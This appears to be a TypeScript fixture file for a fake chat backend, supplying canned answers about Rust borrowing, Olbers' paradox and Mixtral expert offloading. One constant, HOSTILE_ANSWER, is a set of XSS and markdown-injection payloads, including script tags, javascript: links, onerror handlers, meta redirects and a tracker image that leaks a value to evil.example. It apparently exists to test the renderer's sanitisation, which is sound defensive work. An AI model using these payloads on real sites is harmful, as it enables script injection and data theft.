import { SAMPLES } from './samples';

/** What the fake's chats and answers say. */

export const BORROW_ANSWER = `Because both would borrow the list mutably at once. \`push\` takes \`&mut self\`, and your node reference already holds that borrow.

\`\`\`rust
let node = list.front_mut().unwrap();
list.push(3);        // second mutable borrow
*node += 1;          // first one still alive
\`\`\`

End the first borrow before the second starts, or keep an index instead of a reference.`;

export const INDEX_ANSWER = `Sure. Store the nodes in a \`Vec\` and hand out positions:

\`\`\`rust
#[derive(Default)]
struct Arena<T> {
    nodes: Vec<T>,
}

impl<T> Arena<T> {
    /// Returns the position of the new node.
    fn push(&mut self, value: T) -> usize {
        self.nodes.push(value);
        self.nodes.len() - 1
    }
}
\`\`\`

A position stays valid while nodes are only added:

1. \`push\` borrows the arena for the length of the call.
2. The position that comes back borrows nothing.
3. \`arena.nodes[at]\` borrows again, when you need it.

| Way | Cost of a lookup | Survives a push |
|:----|-----------------:|:---------------:|
| reference | 0 | no |
| index | a bounds check | yes |
| \`Rc<RefCell<T>>\` | a count | yes |

> If nodes are removed too, add a generation to the index, so that an old one is noticed.`;

export const OLBERS_ANSWER = `That is **Olbers' paradox**. In a static universe, infinite in space and time, every line of sight would end on a star.

Shells of equal thickness would each send the same light, since the number of stars grows with $r^2$ and the light of each falls with $1/r^2$:

$$
\\int_0^\\infty n \\cdot 4\\pi r^2 \\cdot \\frac{L}{4\\pi r^2}\\, dr = nL \\int_0^\\infty dr \\to \\infty
$$

Two things save the night:

- **Age.** Light from beyond about $13.8$ billion years has not arrived yet.
- **Expansion.** Distant light is stretched: \\( \\lambda_{\\text{seen}} = (1 + z)\\,\\lambda_{\\text{sent}} \\).

What is left of the glow is the microwave background, at

\\[ T \\approx 2.7\\,\\mathrm{K} \\]`;

export const EXPERTS_ANSWER = `A layer of Mixtral has **eight experts**, and a small router picks **two of them for each token**. So only a quarter of the experts work at any moment, but which quarter changes all the time.

Offloading makes use of that:

1. What every token needs, the *trunk*, stays in the fastest memory.
2. Of the experts, as many as fit stay on the GPU; the rest wait in RAM, or on disk.
3. When an expert is missing, it is fetched, or computed where it lies.

The **Experts** page shows this as it happens.`;

export const HOSTILE_ANSWER = `<script>window.hacked = 1</script>

<img src="https://evil.example/a.png" onerror="window.hacked = 2">

![tracker](https://evil.example/track.png?q=secret)

![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

[click](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>) [fine](https://example.org/path?a=1&b=2)

<https://example.org/auto> and <javascript:alert(1)>

<svg onload="window.hacked = 5"></svg><iframe srcdoc="<script>parent.hacked=6</script>"></iframe>

\`\`\`"><img src=x onerror=window.hacked=7>
let a = "</code></pre><script>window.hacked = 8</script>";
\`\`\`

$\\href{javascript:window.hacked=9}{x}$ $\\includegraphics{https://evil.example/b.png}$ $\\htmlStyle{background:url(https://evil.example/c.png)}{x}$

| <img src=x onerror=window.hacked=10> | [x](vbscript:1) |
|---|---|
| <style>body{display:none}</style> | <a href="javascript:1">y</a> |

[ref]: javascript:window.hacked=11
[ref] and [*emphasis*][ref]

<form action="https://evil.example"><input name=q></form> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">`;

export const SAMPLE_CHATS: readonly { title: string; daysAgo: number; isPinned?: boolean; turns: readonly string[] }[] = [
  {
    title: 'Borrow checker and a linked list',
    daysAgo: 0,
    turns: [
      "Why can't I keep a mutable reference to a list node while I push a new one?",
      BORROW_ANSWER,
      'Show me the version with an index.',
      INDEX_ANSWER
    ]
  },
  { title: 'Why is the sky dark at night?', daysAgo: 0, turns: ['Why is the sky dark at night?', OLBERS_ANSWER] },
  { title: 'How experts work', daysAgo: 0, isPinned: true, turns: ['How do experts and offloading work?', EXPERTS_ANSWER] },
  {
    title: 'Trip to Lisbon in March',
    daysAgo: 1,
    turns: ['Three days in Lisbon in March: what would you do?', 'Alfama on foot, Belém by tram, and a day in Sintra.']
  },
  {
    title: 'Regex for ISO dates',
    daysAgo: 1,
    turns: ['A regex for ISO dates?', 'Use `^\\d{4}-(0[1-9]|1[0-2])-(0[1-9]|[12]\\d|3[01])$`, then check the day of the month in code.']
  },
  {
    title: 'Bread with 80% hydration',
    daysAgo: 1,
    turns: ['My dough at 80% hydration runs apart. What helps?', 'Strong flour, an hour of autolyse, four folds and a cold night.']
  },
  {
    title: 'Names for a sailing boat',
    daysAgo: 4,
    turns: ['Ten names for a small sailing boat', 'Petrel, Halcyon, Tern, Kittiwake, Lark, Plover, Wren, Swift, Avocet, Dunlin.']
  },
  {
    title: 'Explain eigenvectors to a gardener',
    daysAgo: 12,
    turns: ['Explain eigenvectors to a gardener', 'A wind that bends every plant, but some only lean further the way they already lean.']
  },
  {
    title: 'SQL: the latest row of each group',
    daysAgo: 48,
    turns: [
      'How do I get the latest row of each group?',
      '```sql\nSELECT * FROM (\n  SELECT *, row_number() OVER (PARTITION BY customer ORDER BY at DESC) AS n\n  FROM orders\n) WHERE n = 1;\n```'
    ]
  }
];

/** The answer that the fake gives to `question`. */
export function answerTo(question: string, asked: string | null): string {
  const sample = SAMPLES[asked ?? ''];
  if (sample !== undefined) return sample;
  if (asked === 'xss') return HOSTILE_ANSWER;
  if (asked === 'long') return Array.from({ length: 12 }, () => `${OLBERS_ANSWER}\n\n${INDEX_ANSWER}`).join('\n\n');
  const text = question.toLowerCase();
  if (/expert|offload/.test(text)) return EXPERTS_ANSWER;
  if (/index|code|rust/.test(text)) return INDEX_ANSWER;
  if (/sky|night|formula|math/.test(text)) return OLBERS_ANSWER;
  if (/octet/.test(text)) {
    return 'Octet is a chat program for your own computer. It runs **Mixtral 8x7B** with the memory at hand, and sends nothing anywhere.';
  }
  return BORROW_ANSWER;
}
